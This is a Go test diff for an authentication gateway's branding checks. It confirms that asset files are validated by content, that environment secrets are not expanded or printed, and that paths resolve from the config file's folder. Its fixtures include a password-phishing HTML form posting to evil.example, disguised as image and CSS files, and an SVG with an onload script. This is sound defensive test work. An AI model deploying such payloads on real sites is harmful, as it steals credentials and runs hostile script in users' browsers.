@@ -1,6 +1,8 @@
 package e2e
 
 import (
+	"context"
+	"errors"
 	"net/http"
 	"net/url"
 	"os"
@@ -9,6 +11,7 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/chromedp/chromedp"
 )
@@ -186,6 +189,108 @@ func TestBrowserBranding(t *testing.T) {
 		u, err := url.Parse(r)
 		if err != nil || !strings.HasSuffix(u.Hostname(), "localhost") || u.Port() != g.port {
 			t.Errorf("the page loaded %s, from another origin", r)
+		}
+	}
+}
+
+// Branding files are judged by their bytes, texts never read the
+// environment, and relative file names are relative to the config file:
+// `config validate` and `serve` refuse the same configs with the same
+// key paths, from any working directory.
+func TestBrandingRefusedAlikeByValidateAndServe(t *testing.T) {
+	const page = "<!doctype html><html><body><form action=https://evil.example/><input type=password name=p></form></body></html>"
+	const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"/>`
+	const secret = "e2e-secret-value"
+	base := strings.NewReplacer("{{UPSTREAM}}", "http://127.0.0.1:9", "{{PORT}}", freePort(t), "{{OPS}}", "127.0.0.1:"+freePort(t)).Replace(`
+public_url: http://auth.localhost:{{PORT}}
+listen: 127.0.0.1:{{PORT}}
+ops_listen: {{OPS}}
+store:
+  badger: { path: data }
+orgs:
+  - slug: acme
+    name: Acme Corp
+    connection: { type: password }
+    branding:
+`)
+	tests := []struct {
+		name, branding string
+		files          map[string]string
+		want           string // the refusal, key path first
+	}{
+		{"an HTML page named .png", "      logo: brand/logo.png\n", map[string]string{"brand/logo.png": page},
+			`orgs[0].branding.logo: brandasset: "DIR/brand/logo.png" is not a PNG image`},
+		{"a font that is not a font", "      font: brand/inter.woff2\n", map[string]string{"brand/inter.woff2": "just some words, no font here"},
+			`orgs[0].branding.font: brandasset: "DIR/brand/inter.woff2" is not a WOFF2 font`},
+		{"an HTML page named .css", "      css: extra.css\n", map[string]string{"extra.css": page},
+			`orgs[0].branding.css: brandasset: "DIR/extra.css" is not a CSS file`},
+		{"an SVG favicon with a script", "      favicon: icon.svg\n", map[string]string{"icon.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`},
+			`orgs[0].branding.favicon: brandasset: "DIR/icon.svg" is not an SVG image (it has an event handler (onload)`},
+		{"a file only in the working directory", "      logo: cwd-only.svg\n", nil,
+			`orgs[0].branding.logo: file "DIR/cwd-only.svg" does not exist`},
+		{"a footer reading the environment", "      logo: logo.svg\n      texts: { footer: \"Support: ${GATEHOUSE_E2E_SECRET}\" }\n", map[string]string{"logo.svg": svg},
+			`orgs[0].branding.texts.footer: environment variable reference "${GATEHOUSE_E2E_SECRET}" is not expanded here`},
+	}
+	// Started from a folder of its own, where a file of the wanted name
+	// exists: the config's folder must be where names are looked up.
+	cwd := t.TempDir()
+	os.WriteFile(filepath.Join(cwd, "cwd-only.svg"), []byte(svg), 0o644)
+	env := append(os.Environ(), "GATEHOUSE_E2E_SECRET="+secret)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			for name, body := range tt.files {
+				os.MkdirAll(filepath.Join(dir, filepath.Dir(name)), 0o755)
+				if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			path := filepath.Join(dir, "gatehouse.yaml")
+			if err := os.WriteFile(path, []byte(base+tt.branding), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			want := strings.ReplaceAll(tt.want, "DIR", dir)
+			for _, args := range [][]string{{"config", "validate", path}, {"serve", "--config", path}} {
+				ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+				cmd := exec.CommandContext(ctx, binary, args...)
+				cmd.Dir, cmd.Env = cwd, env
+				out, err := cmd.CombinedOutput()
+				cancel()
+				var exit *exec.ExitError
+				if !errors.As(err, &exit) || exit.ExitCode() != 1 || !strings.Contains(string(out), want) {
+					t.Errorf("%s: %v, want exit 1 with %q:\n%s", args[0], err, want, out)
+				}
+				if strings.Contains(string(out), secret) {
+					t.Errorf("%s printed the secret:\n%s", args[0], out)
+				}
+			}
+		})
+	}
+	// The same names beside the config, valid: accepted from elsewhere.
+	dir := t.TempDir()
+	os.MkdirAll(filepath.Join(dir, "brand"), 0o755)
+	os.WriteFile(filepath.Join(dir, "brand", "logo.svg"), []byte(svg), 0o644)
+	path := filepath.Join(dir, "gatehouse.yaml")
+	os.WriteFile(path, []byte(base+"      logo: brand/logo.svg\n      texts: { footer: \"Costs $${PRICE}\" }\n"), 0o600)
+	cmd := exec.Command(binary, "config", "validate", path)
+	cmd.Dir = cwd
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("validate: %v\n%s", err, out)
+	}
+}
+
+// The vanity-domains example validates from any folder: its branding
+// files are named relative to it.
+func TestExampleBrandingFromAnotherFolder(t *testing.T) {
+	abs, err := filepath.Abs("../examples/vanity-domains/gatehouse.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, dir := range []string{t.TempDir(), "..", "/"} {
+		cmd := exec.Command(binary, "config", "validate", abs)
+		cmd.Dir = dir
+		if out, err := cmd.CombinedOutput(); err != nil || !strings.HasSuffix(string(out), ": ok\n") {
+			t.Errorf("from %s: %v\n%s", dir, err, out)
 		}
 	}
 }
